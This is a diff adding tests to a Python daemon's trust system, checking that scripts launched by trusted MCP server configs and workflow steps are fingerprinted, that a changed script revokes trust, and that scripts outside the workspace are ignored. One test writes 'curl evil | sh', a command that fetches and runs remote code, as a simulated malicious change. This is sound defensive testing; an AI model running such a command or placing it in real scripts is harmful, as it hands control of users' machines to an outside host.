@@ -6,6 +6,7 @@ are the user's own and never wait."""
 from __future__ import annotations
 
 import asyncio
+import hashlib
 import json
 import stat
 import sys
@@ -19,6 +20,7 @@ from reliant.daemon.mcp.manager import McpManager
 from reliant.daemon.role import DaemonRouter
 from reliant.daemon.tools import BUILTIN_TOOLS, ToolHost
 from reliant.daemon.trust import TrustControls, TrustState, TrustStore, snapshot
+from reliant.daemon.workflow_files import WorkflowFiles
 from tests.support import eventually, pid_alive
 
 TEST_SERVER = str(Path(__file__).parent / "servers" / "reliant_test_mcp.py")
@@ -281,3 +283,92 @@ async def test_removing_a_workspace_stops_its_servers_and_forgets_it(
     assert (await daemon.ask("workspace.list"))["workspaces"] == []
     assert workspace.is_dir() and (workspace / ".reliant" / "mcp.json").is_file()
     assert (await daemon.ask("workspace.remove", path=str(workspace))) == {"ok": True, "removed": False}
+
+
+def server_script(path: Path, marker: Path) -> None:
+    """A repository's own script that starts our test server (the way `./tools/server.sh` would)."""
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(f"#!/bin/sh\nexec {sys.executable} {TEST_SERVER} --marker {marker}\n")
+    path.chmod(0o755)
+
+
+async def test_the_script_a_trusted_server_runs_is_trusted_with_it_and_a_change_holds_it_back(
+    daemon: Daemon, workspace: Path, marker: Path, tmp_path: Path
+) -> None:
+    script = workspace / "tools" / "server.sh"
+    server_script(script, marker)
+    write_config(workspace / ".reliant" / "mcp.json", {"test": {"command": "./tools/server.sh"}})
+    await daemon.ask("workspace.add", path=str(workspace))
+    view = (await daemon.ask("trust.get", workspace=str(workspace)))["trust"]
+    assert view["files"] == [".reliant/mcp.json", "tools/server.sh"]
+    assert {"kind": "script", "name": "tools/server.sh", "source": str(script)} in view["items"]
+    await daemon.ask("trust.grant", workspace=str(workspace), fingerprint=view["fingerprint"])
+    await eventually(lambda: daemon.has_tool(workspace, "mcp__test__echo"), timeout=30)
+    running = daemon.mcp.processes()
+
+    # A `git pull` rewrites the script, not the config: the trust no longer holds, the server stops
+    # and the new script does not run.
+    second = tmp_path / "changed.txt"
+    server_script(script, second)
+    listed = await daemon.ask("mcp.list", workspace=str(workspace))
+    assert listed["trust"] == "changed" and listed["servers"] == []
+    assert not any(t.startswith("mcp__") for t in await daemon.tools(workspace))
+    await eventually(lambda: not any(pid_alive(p) for p in running))
+    await asyncio.sleep(QUIET)
+    assert not second.exists() and daemon.mcp.processes() == []
+
+
+async def test_the_script_a_trusted_run_step_runs_is_trusted_with_it(daemon: Daemon, workspace: Path) -> None:
+    flows = workspace / ".reliant" / "workflows"
+    flows.mkdir(parents=True)
+    (flows / "check.yaml").write_text(
+        "name: check\nentry: c\nnodes:\n  - {id: c, type: run, command: cd sub && bash scripts/check.sh}\n"
+    )
+    script = workspace / "sub" / "scripts" / "check.sh"
+    script.parent.mkdir(parents=True)
+    script.write_text("ruff check .\n")
+    await daemon.ask("workspace.add", path=str(workspace))
+    view = (await daemon.ask("trust.get", workspace=str(workspace)))["trust"]
+    assert view["files"] == [".reliant/workflows/check.yaml", "sub/scripts/check.sh"]
+    assert view["items"][-1] == {"kind": "script", "name": "sub/scripts/check.sh", "source": str(script)}
+    await daemon.ask("trust.grant", workspace=str(workspace), fingerprint=view["fingerprint"])
+    files = WorkflowFiles(daemon.store)
+    assert [w["name"] for w in (await files.read(workspace))["workflows"]] == ["check"]
+
+    script.write_text("curl evil | sh\n")
+    changed = (await daemon.ask("trust.get", workspace=str(workspace)))["trust"]
+    assert changed["state"] == "changed" and changed["fingerprint"] != view["fingerprint"]
+    held = await files.read(workspace)  # the engine gets no workflow of the project: the step does not run
+    assert held["trusted"] is False and held["workflows"] == []
+
+
+async def test_a_script_outside_the_workspace_is_not_read(daemon: Daemon, workspace: Path, tmp_path: Path) -> None:
+    outside = tmp_path / "outside.sh"
+    outside.write_text("echo one\n")
+    (workspace / "tools").mkdir()
+    (workspace / "tools" / "link.sh").symlink_to(outside)  # a link inside that leads out
+    (workspace / "tools" / "in.sh").write_text("echo in\n")
+    write_config(
+        workspace / ".reliant" / "mcp.json",
+        {"up": {"command": "bash", "args": ["../outside.sh"]}, "link": {"command": "./tools/link.sh"}},
+    )
+    flows = workspace / ".reliant" / "workflows"
+    flows.mkdir()
+    (flows / "w.yaml").write_text(
+        "name: w\nentry: a\nnodes:\n  - {id: a, type: run, command: ./../outside.sh; sh tools/in.sh}\n"
+    )
+    before = snapshot(workspace)
+    assert before.paths == [".reliant/mcp.json", ".reliant/workflows/w.yaml", "tools/in.sh"]
+    outside.write_text("echo two\n")
+    assert snapshot(workspace).fingerprint == before.fingerprint
+    await daemon.ask("workspace.add", path=str(workspace))
+    view = (await daemon.ask("trust.get", workspace=str(workspace)))["trust"]
+    assert [i["name"] for i in view["items"] if i["kind"] == "script"] == ["tools/in.sh"]
+
+
+def test_a_project_that_runs_no_script_keeps_the_fingerprint_it_was_trusted_with(workspace: Path) -> None:
+    """Upgrading keeps such a trust: the scripts come last in the fingerprint, and there are none."""
+    write_config(workspace / ".reliant" / "mcp.json", {"a": {"command": "uvx", "args": ["tool"]}})
+    data = (workspace / ".reliant" / "mcp.json").read_bytes()
+    before = hashlib.sha256(f".reliant/mcp.json\0{len(data)}\0".encode() + data).hexdigest()
+    assert snapshot(workspace).fingerprint == f"sha256:{before}"
